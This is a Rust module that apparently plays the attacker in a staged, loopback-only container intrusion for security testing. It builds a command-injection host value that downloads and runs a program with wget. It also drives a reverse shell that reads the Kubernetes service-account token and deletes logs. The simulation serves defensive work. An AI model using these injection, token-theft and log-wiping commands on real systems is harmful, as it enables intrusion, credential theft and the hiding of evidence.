//! The other end of the staged intrusion, outside the container: it offers a program for download and types into
//! the shell that this program brings back. Both listen on the loopback address only.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use anyhow::{Context as _, bail};

/// What is typed, in order. A shell that has done a command prints its prompt again.
const TYPED: [&str; 6] = [
    "id",
    "uname -a",
    "ls -la /srv /run/secrets/kubernetes.io/serviceaccount",
    "cat /run/secrets/kubernetes.io/serviceaccount/token",
    "rm -f /tmp/.update /var/log/service.log",
    "exit",
];

const PROMPT: &[u8] = b"# ";

/// How long a shell may take for a command, and a download to begin.
const PATIENCE: Duration = Duration::from_secs(20);

/// Between commands, so that the timeline looks like someone typing.
const PAUSE: Duration = Duration::from_millis(300);

pub(crate) struct Attacker {
    downloads: TcpListener,
    shells: TcpListener,
}

impl Attacker {
    /// Listens on two free ports of the loopback address.
    pub(crate) fn listen() -> anyhow::Result<Self> {
        let listen = || -> anyhow::Result<TcpListener> {
            let listener =
                TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).context("cannot listen on loopback")?;
            listener.set_nonblocking(true)?;
            Ok(listener)
        };
        Ok(Self { downloads: listen()?, shells: listen()? })
    }

    /// The request's parameter: a host name with commands behind it.
    pub(crate) fn requested_host(&self) -> String {
        let port = |listener: &TcpListener| listener.local_addr().map(|address| address.port()).unwrap_or(0);
        format!(
            "127.0.0.1; wget -q -O /tmp/.update http://127.0.0.1:{}/update; chmod 755 /tmp/.update; /tmp/.update {}",
            port(&self.downloads),
            port(&self.shells)
        )
    }

    /// Hands out `program` once, waits for the shell that it brings, and types. Gives up when the container is
    /// `over`. Returns what the attacker saw.
    pub(crate) fn attack(&self, program: &[u8], over: &AtomicBool) -> anyhow::Result<String> {
        offer(accept(&self.downloads, over)?, program).context("the download failed")?;
        converse(accept(&self.shells, over)?).context("the shell failed")
    }
}

fn accept(listener: &TcpListener, over: &AtomicBool) -> anyhow::Result<TcpStream> {
    loop {
        match listener.accept() {
            Ok((stream, _)) => {
                stream.set_nonblocking(false)?;
                stream.set_read_timeout(Some(PATIENCE))?;
                stream.set_write_timeout(Some(PATIENCE))?;
                return Ok(stream);
            }
            Err(error) if error.kind() == ErrorKind::WouldBlock => {
                if over.load(Ordering::Relaxed) {
                    bail!("the container ended before it connected to the attacker");
                }
                std::thread::sleep(Duration::from_millis(5));
            }
            Err(error) => return Err(error).context("cannot accept a connection"),
        }
    }
}

fn offer(mut stream: TcpStream, program: &[u8]) -> anyhow::Result<()> {
    let mut request = Vec::new();
    while !request.ends_with(b"\r\n\r\n") {
        let mut byte = [0];
        if stream.read(&mut byte)? == 0 || request.len() > 8192 {
            bail!("no request came");
        }
        request.push(byte[0]);
    }
    write!(stream, "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n", program.len())?;
    stream.write_all(program)?;
    Ok(())
}

fn converse(mut shell: TcpStream) -> anyhow::Result<String> {
    let mut seen = Vec::new();
    read_until_prompt(&mut shell, &mut seen)?;
    for command in TYPED {
        std::thread::sleep(PAUSE);
        let line = format!("{command}\n");
        shell.write_all(line.as_bytes())?;
        // A shell on a socket does not echo.
        seen.extend_from_slice(line.as_bytes());
        read_until_prompt(&mut shell, &mut seen)?;
    }
    Ok(String::from_utf8_lossy(&seen).into_owned())
}

/// Reads until the shell waits for a command or has ended.
fn read_until_prompt(shell: &mut TcpStream, seen: &mut Vec<u8>) -> anyhow::Result<()> {
    let begin = seen.len();
    loop {
        let mut piece = [0; 4096];
        match shell.read(&mut piece) {
            Ok(0) => return Ok(()),
            Ok(length) => seen.extend_from_slice(&piece[..length]),
            Err(error) if error.kind() == ErrorKind::ConnectionReset => return Ok(()),
            Err(error) => return Err(error).context("no prompt came"),
        }
        if seen[begin..].ends_with(PROMPT) {
            return Ok(());
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_address_of_the_attack_is_loopback() {
        let attacker = Attacker::listen().unwrap();
        for listener in [&attacker.downloads, &attacker.shells] {
            assert!(listener.local_addr().unwrap().ip().is_loopback());
        }
        let host = attacker.requested_host();
        let hosts: Vec<_> = host.split("http://").skip(1).collect();
        assert!(!hosts.is_empty() && hosts.iter().all(|rest| rest.starts_with("127.0.0.1:")), "{host}");
    }

    #[test]
    fn an_attack_on_a_container_that_ended_gives_up() {
        let attacker = Attacker::listen().unwrap();
        let error = attacker.attack(b"", &AtomicBool::new(true)).unwrap_err();
        assert!(error.to_string().contains("ended before"), "{error:#}");
    }
}
